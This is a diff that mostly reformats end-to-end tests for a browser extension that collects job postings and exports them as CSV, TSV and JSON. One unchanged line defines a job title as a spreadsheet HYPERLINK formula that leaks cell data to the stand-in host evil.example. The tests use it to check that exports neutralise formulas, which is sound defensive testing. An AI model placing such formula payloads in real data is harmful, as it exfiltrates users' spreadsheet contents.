@@ -17,7 +17,18 @@ import { joinCell, SPREADSHEET_HEADER } from '../../src/core/export/rows';
 import { PROJECT_DIR } from '../shared';
 import { extensionArgs, HEADLESS_ARGS } from '../../scripts/find-chromium.mjs';
 import type { OpenAIServer } from '../server/openai-server';
-import { chromiumPath, closeAll, DIST_DIR, OptionsPage, PopupPage, startFixturePages, startTestBed, tabIdOf, type ExtensionBrowser, type JobSite } from './fixtures';
+import {
+  chromiumPath,
+  closeAll,
+  DIST_DIR,
+  OptionsPage,
+  PopupPage,
+  startFixturePages,
+  startTestBed,
+  tabIdOf,
+  type ExtensionBrowser,
+  type JobSite,
+} from './fixtures';
 
 const KEY = 'sk-test-collection-0123456789';
 const MODEL = 'ft:davinci-002:crème:collection:e2e';
@@ -29,11 +40,21 @@ const FORMULA_TITLE = '=HYPERLINK("http://evil.example/?leak="&A1,"Data Engineer
 const ANSWERS: { marker: string; entities: Entities }[] = [
   {
     marker: 'feeding our forecasts',
-    entities: { diploma: ['bachelor'], diploma_major: ['statistics', 'mathematics'], experience: ['3 + years'], skills: ['sql', 'python', 'excel', 'python'] },
+    entities: {
+      diploma: ['bachelor'],
+      diploma_major: ['statistics', 'mathematics'],
+      experience: ['3 + years'],
+      skills: ['sql', 'python', 'excel', 'python'],
+    },
   },
   {
     marker: 'running production systems',
-    entities: { diploma: ['bs'], diploma_major: ['computer science'], experience: ['5 + years'], skills: ['kubernetes', 'terraform', 'go', 'python'] },
+    entities: {
+      diploma: ['bs'],
+      diploma_major: ['computer science'],
+      experience: ['5 + years'],
+      skills: ['kubernetes', 'terraform', 'go', 'python'],
+    },
   },
 ];
 const [DATA, PLATFORM] = ANSWERS.map((a) => a.entities);
@@ -50,12 +71,22 @@ beforeAll(async () => {
   ({ server, site, ext } = await startTestBed(
     {
       apiKey: KEY,
-      answer: (req) => completion(ANSWERS.find((a) => req.prompt.includes(a.marker))?.entities ?? { diploma: [], diploma_major: [], experience: [], skills: [] }),
+      answer: (req) =>
+        completion(
+          ANSWERS.find((a) => req.prompt.includes(a.marker))?.entities ?? {
+            diploma: [],
+            diploma_major: [],
+            experience: [],
+            skills: [],
+          },
+        ),
     },
     () => startFixturePages(FIXTURES),
   ));
   await ext.context.grantPermissions(['clipboard-read', 'clipboard-write']);
-  expect(await OptionsPage.configure(ext, { baseURL: server.url, apiKey: KEY, model: MODEL, mode: 'auto' })).toBe('Saved.');
+  expect(await OptionsPage.configure(ext, { baseURL: server.url, apiKey: KEY, model: MODEL, mode: 'auto' })).toBe(
+    'Saved.',
+  );
 });
 
 afterAll(() => closeAll(ext, site, server));
@@ -85,7 +116,16 @@ async function storedCollection(): Promise<unknown> {
 }
 
 function expectedRow(title: string, company: string, url: string, e: Entities): string[] {
-  return [title, company, expect.stringContaining(''), url, joinCell(e.diploma), joinCell(e.diploma_major), joinCell(e.experience), joinCell(e.skills)] as string[];
+  return [
+    title,
+    company,
+    expect.stringContaining(''),
+    url,
+    joinCell(e.diploma),
+    joinCell(e.diploma_major),
+    joinCell(e.experience),
+    joinCell(e.skills),
+  ] as string[];
 }
 
 async function openCollection(): Promise<Page> {
@@ -109,7 +149,12 @@ describe('export bar in the popup', () => {
     expect(cells[1]).toBe('Crème Brûlée Analytics, SARL');
     expect(cells[2]).toMatch(/Lyon/);
     expect(cells[3]).toBe(url);
-    expect(cells.slice(4)).toEqual([joinCell(DATA.diploma), joinCell(DATA.diploma_major), joinCell(DATA.experience), joinCell(DATA.skills)]);
+    expect(cells.slice(4)).toEqual([
+      joinCell(DATA.diploma),
+      joinCell(DATA.diploma_major),
+      joinCell(DATA.experience),
+      joinCell(DATA.skills),
+    ]);
     // Several values in one cell, joined with "; ", each once (python is answered twice).
     expect(cells[5]).toBe('statistics; mathematics');
     expect(cells[7].split('; ')).toHaveLength(3);
@@ -150,7 +195,10 @@ describe('export bar in the popup', () => {
     await exportStatus(b.popup.page, 'Saved');
 
     // "Open collection" opens the collection page in a tab.
-    const [opened] = await Promise.all([ext.context.waitForEvent('page'), b.popup.page.getByTestId('open-collection').click()]);
+    const [opened] = await Promise.all([
+      ext.context.waitForEvent('page'),
+      b.popup.page.getByTestId('open-collection').click(),
+    ]);
     await opened.waitForLoadState();
     expect(opened.url()).toBe(ext.url('src/collection/collection.html'));
     await expect.poll(() => opened.getByTestId('collection-row').count()).toBe(2);
@@ -163,8 +211,18 @@ describe('export bar in the popup', () => {
     expect(backup.ok).toBe(true);
     if (!backup.ok) return;
     expect(backup.postings.map((p) => p.url)).toEqual([a.url, b.url]);
-    expect(backup.postings[0]).toMatchObject({ title: FORMULA_TITLE, company: 'Crème Brûlée Analytics, SARL', model: MODEL, provider: 'openai', entities: DATA });
-    expect(backup.postings[1]).toMatchObject({ title: 'Platform Engineer', company: 'Northwind "Fjord" Cloud', entities: PLATFORM });
+    expect(backup.postings[0]).toMatchObject({
+      title: FORMULA_TITLE,
+      company: 'Crème Brûlée Analytics, SARL',
+      model: MODEL,
+      provider: 'openai',
+      entities: DATA,
+    });
+    expect(backup.postings[1]).toMatchObject({
+      title: 'Platform Engineer',
+      company: 'Northwind "Fjord" Cloud',
+      entities: PLATFORM,
+    });
   });
 });
 
@@ -204,7 +262,8 @@ describe('collection page', () => {
   it('charts the most frequent skills (and per entity type); a bar filters the table', async () => {
     const page = await openCollection();
     const bars = page.getByTestId('chart-bar');
-    const chart = async () => bars.evaluateAll((els) => els.map((e) => [e.getAttribute('data-value'), Number(e.getAttribute('data-count'))]));
+    const chart = async () =>
+      bars.evaluateAll((els) => els.map((e) => [e.getAttribute('data-value'), Number(e.getAttribute('data-count'))]));
     const skills = await chart();
     // Python is in both postings (counted once per posting), the rest once.
     expect(skills[0]).toEqual(['Python', 2]);
@@ -230,7 +289,9 @@ describe('collection page', () => {
 
   it('exports everything as CSV (BOM, header + 2 rows, "; " joins, formula neutralised), TSV and JSON', async () => {
     const page = await openCollection();
-    const urls = await page.getByTestId('collection-row').evaluateAll((els) => els.map((e) => e.getAttribute('data-url') ?? ''));
+    const urls = await page
+      .getByTestId('collection-row')
+      .evaluateAll((els) => els.map((e) => e.getAttribute('data-url') ?? ''));
     const dataUrl = urls.find((u) => u.endsWith('formula-title.html'))!;
     const platformUrl = urls.find((u) => u.endsWith('platform-engineer.html'))!;
 
@@ -242,8 +303,16 @@ describe('collection page', () => {
     expect(rows).toHaveLength(3);
     expect(rows[0]).toEqual([...COLLECTION_HEADER]);
     const byUrl = new Map(rows.slice(1).map((r) => [r[3], r]));
-    expect(byUrl.get(dataUrl)).toEqual([...expectedRow(`'${FORMULA_TITLE}`, 'Crème Brûlée Analytics, SARL', dataUrl, DATA), 'New', '']);
-    expect(byUrl.get(platformUrl)).toEqual([...expectedRow('Platform Engineer', 'Northwind "Fjord" Cloud', platformUrl, PLATFORM), 'New', '']);
+    expect(byUrl.get(dataUrl)).toEqual([
+      ...expectedRow(`'${FORMULA_TITLE}`, 'Crème Brûlée Analytics, SARL', dataUrl, DATA),
+      'New',
+      '',
+    ]);
+    expect(byUrl.get(platformUrl)).toEqual([
+      ...expectedRow('Platform Engineer', 'Northwind "Fjord" Cloud', platformUrl, PLATFORM),
+      'New',
+      '',
+    ]);
     expect(byUrl.get(platformUrl)![7].split('; ')).toHaveLength(4);
     expect(byUrl.get(platformUrl)![2]).toMatch(/Tromsø/);
     // In the raw file the formula cell is quoted and starts with the neutralising quote.
@@ -270,14 +339,29 @@ describe('collection page', () => {
 
     const notice = page.getByTestId('collection-notice');
     // Not JSON.
-    await page.getByTestId('import-json').setInputFiles({ name: 'notes.json', mimeType: 'application/json', buffer: Buffer.from('title,company\nx,y\n') });
+    await page
+      .getByTestId('import-json')
+      .setInputFiles({ name: 'notes.json', mimeType: 'application/json', buffer: Buffer.from('title,company\nx,y\n') });
     await notice.filter({ hasText: 'not JSON' }).waitFor();
     expect(await notice.getAttribute('data-kind')).toBe('error');
     // JSON, right format, but the second posting is damaged: nothing at all is imported.
     const damaged = JSON.parse(backup);
     damaged.postings[0].title = 'Imported over the saved one';
-    damaged.postings.push({ url: 'https://example.invalid/job', title: 'x', company: 'y', location: 'z', capturedAt: 'yesterday', entities: {}, model: 'm', provider: 'openai' });
-    await page.getByTestId('import-json').setInputFiles({ name: 'damaged.json', mimeType: 'application/json', buffer: Buffer.from(JSON.stringify(damaged)) });
+    damaged.postings.push({
+      url: 'https://example.invalid/job',
+      title: 'x',
+      company: 'y',
+      location: 'z',
+      capturedAt: 'yesterday',
+      entities: {},
+      model: 'm',
+      provider: 'openai',
+    });
+    await page.getByTestId('import-json').setInputFiles({
+      name: 'damaged.json',
+      mimeType: 'application/json',
+      buffer: Buffer.from(JSON.stringify(damaged)),
+    });
     await notice.filter({ hasText: 'damaged' }).waitFor();
     await expect(notice.textContent()).resolves.toMatch(/posting 3.*Nothing was changed/);
     expect(await storedCollection()).toEqual(before);
@@ -288,7 +372,9 @@ describe('collection page', () => {
     await rows.filter({ hasText: 'Platform Engineer' }).getByTestId('delete-row').click();
     await expect.poll(() => rows.count()).toBe(1);
     await notice.filter({ hasText: 'Deleted' }).waitFor();
-    await page.getByTestId('import-json').setInputFiles({ name: 'backup.json', mimeType: 'application/json', buffer: Buffer.from(backup) });
+    await page
+      .getByTestId('import-json')
+      .setInputFiles({ name: 'backup.json', mimeType: 'application/json', buffer: Buffer.from(backup) });
     await notice.filter({ hasText: '1 new, 1 updated' }).waitFor();
     await expect.poll(() => rows.count()).toBe(2);
 
@@ -303,8 +389,12 @@ describe('collection page', () => {
   it('a damaged stored entry is set aside without hiding the others', async () => {
     const good = await storedCollection();
     await ext.worker.evaluate(async () => {
-      const { collection } = (await chrome.storage.local.get('collection')) as { collection: { version: number; postings: unknown[] } };
-      await chrome.storage.local.set({ collection: { ...collection, postings: [...collection.postings, { url: 42, title: null }] } });
+      const { collection } = (await chrome.storage.local.get('collection')) as {
+        collection: { version: number; postings: unknown[] };
+      };
+      await chrome.storage.local.set({
+        collection: { ...collection, postings: [...collection.postings, { url: 42, title: null }] },
+      });
     });
     const page = await openCollection();
     await expect.poll(() => page.getByTestId('collection-row').count()).toBe(2);
@@ -313,9 +403,13 @@ describe('collection page', () => {
     await page.getByTestId('collection-row').filter({ hasText: 'Platform Engineer' }).getByTestId('delete-row').click();
     await page.getByTestId('notice-action').click();
     await expect.poll(() => page.getByTestId('collection-row').count()).toBe(2);
-    const aside = await ext.worker.evaluate(async () => (await chrome.storage.local.get('collectionSetAside')).collectionSetAside);
+    const aside = await ext.worker.evaluate(
+      async () => (await chrome.storage.local.get('collectionSetAside')).collectionSetAside,
+    );
     expect(aside).toEqual([{ url: 42, title: null }]);
-    expect(((await storedCollection()) as { postings: unknown[] }).postings).toHaveLength((good as { postings: unknown[] }).postings.length);
+    expect(((await storedCollection()) as { postings: unknown[] }).postings).toHaveLength(
+      (good as { postings: unknown[] }).postings.length,
+    );
     await page.close();
   });
 
@@ -328,7 +422,17 @@ describe('collection page', () => {
       const id = await page.evaluate(() => document.activeElement?.getAttribute('data-testid') ?? '');
       if (id) reached.add(id);
     }
-    for (const id of ['export-csv', 'export-tsv', 'export-json', 'import-json', 'chart-bar', 'skill-filter', 'sort-title', 'delete-row']) expect(reached).toContain(id);
+    for (const id of [
+      'export-csv',
+      'export-tsv',
+      'export-json',
+      'import-json',
+      'chart-bar',
+      'skill-filter',
+      'sort-title',
+      'delete-row',
+    ])
+      expect(reached).toContain(id);
     await page.close();
   });
 });
@@ -362,9 +466,14 @@ describe('durable across a browser restart', () => {
       const again = await second.context.newPage();
       await again.goto(second.url('src/collection/collection.html'));
       await expect.poll(() => again.getByTestId('collection-row').count()).toBe(2);
-      expect((await again.getByTestId('row-title').allTextContents()).sort()).toEqual(['@Analyst, Pricing', 'Site Reliability Engineer']);
+      expect((await again.getByTestId('row-title').allTextContents()).sort()).toEqual([
+        '@Analyst, Pricing',
+        'Site Reliability Engineer',
+      ]);
       // The offline extractor's postings say so instead of a model id.
-      await expect(again.getByTestId('collection-row').filter({ hasText: '@Analyst' }).textContent()).resolves.toContain('offline extractor');
+      await expect(
+        again.getByTestId('collection-row').filter({ hasText: '@Analyst' }).textContent(),
+      ).resolves.toContain('offline extractor');
       await second.context.close();
     } finally {
       rmSync(profile, { recursive: true, force: true });
